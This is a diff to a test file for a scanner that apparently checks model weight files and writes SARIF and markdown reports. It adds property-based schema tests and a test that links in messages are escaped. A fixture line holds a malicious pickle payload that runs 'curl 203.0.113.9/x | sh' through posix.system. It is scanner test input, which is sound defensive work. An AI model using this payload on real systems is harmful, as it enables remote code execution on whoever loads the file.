@@ -8,6 +8,8 @@ from pathlib import Path
 
 import jsonschema
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from weighbridge.cli.markdown import MAX_FINDINGS, MAX_LENGTH, code, markdown
 from weighbridge.cli.outcome import Failed, Row
@@ -15,6 +17,7 @@ from weighbridge.cli.sarif import MAX_RESULTS, sarif
 from weighbridge.core.digest import Digest
 from weighbridge.core.errors import Unreachable
 from weighbridge.core.finding import Coverage, Finding, Location, Report, Ruleset, Severity, Verdict
+from weighbridge.scanner import RULES
 
 SCHEMA = json.loads((Path(__file__).parent / "schemas" / "sarif-2.1.0-rtm.5.json").read_text("utf-8"))
 BAD = b'cposix\nsystem\n(S"curl 203.0.113.9/x | sh"\ntR.'
@@ -45,7 +48,10 @@ def models(folder):
 def valid(text):
     log = json.loads(text)
     kind = jsonschema.validators.validator_for(SCHEMA)
-    errors = [f"{list(e.absolute_path)}: {e.message}" for e in kind(SCHEMA).iter_errors(log)]
+    errors = [
+        f"{list(e.absolute_path)}: {e.message}"
+        for e in kind(SCHEMA, format_checker=jsonschema.FormatChecker()).iter_errors(log)
+    ]
     assert errors == []
     (run,) = log["runs"]
     return run
@@ -166,6 +172,50 @@ def test_more_results_than_a_service_takes_are_cut_and_said_so():
     assert len(run["results"]) == MAX_RESULTS
     assert run["results"][0]["message"]["text"] == "Worst."
     assert "6 more findings" in run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"]
+
+
+def test_nothing_in_a_message_is_a_link():
+    found = finding("see [here](http://203.0.113.9/) \\", path="a[b].bin", members=("[c](d)",))
+    log = sarif([row([found])], [Failed("[x](y)", Unreachable("no [z](w)"))], exit_code=1, here=Path("/"))
+    run = log["runs"][0]
+    result = run["results"][0]
+    texts = [result["message"]["text"], result["relatedLocations"][0]["message"]["text"]]
+    texts += [entry["message"]["text"] for entry in run["invocations"][0]["toolExecutionNotifications"]]
+    assert texts[0] == "See \\[here\\](http://203.0.113.9/) \\\\."
+    for text in texts:
+        assert not re.search(r"(?<!\\)[\[\]]", text), text
+    help_ = run["tool"]["driver"]["rules"][0]["help"]
+    assert "](" not in help_["markdown"] + help_["text"]
+
+
+NAMES = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=12)
+FINDINGS = st.builds(
+    Finding,
+    st.sampled_from(sorted(RULES)),
+    st.sampled_from(Verdict),
+    st.sampled_from(Severity),
+    st.builds(Location, NAMES, st.lists(NAMES, max_size=3).map(tuple), st.none() | st.integers(0, 2**53)),
+    st.text(max_size=40),
+    why=st.text(max_size=20),
+    subject=st.text(max_size=10),
+    evidence=st.lists(st.text(max_size=20), max_size=2).map(tuple),
+)
+
+
+@settings(max_examples=60)
+@given(st.lists(FINDINGS, max_size=6), st.sampled_from([None, "/x", "/x/y z", "/"]), NAMES)
+def test_whatever_is_found_gives_sarif_of_the_schema(findings, folder, name):
+    log = sarif([row(findings, model=name, folder=folder)], [], exit_code=1, here=Path("/x"))
+    run = valid(json.dumps(log))
+    assert len(run["results"]) == len(findings)
+    for result in run["results"]:
+        index = result["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["index"]
+        depth = 0
+        while "parentIndex" in run["artifacts"][index]:
+            index, depth = run["artifacts"][index]["parentIndex"], depth + 1
+        assert index == result["locations"][0]["physicalLocation"]["artifactLocation"]["index"]
+        logical = result["locations"][0].get("logicalLocations")
+        assert bool(logical) == bool(depth)
 
 
 def test_incomplete_coverage_without_a_finding_is_a_failed_run():
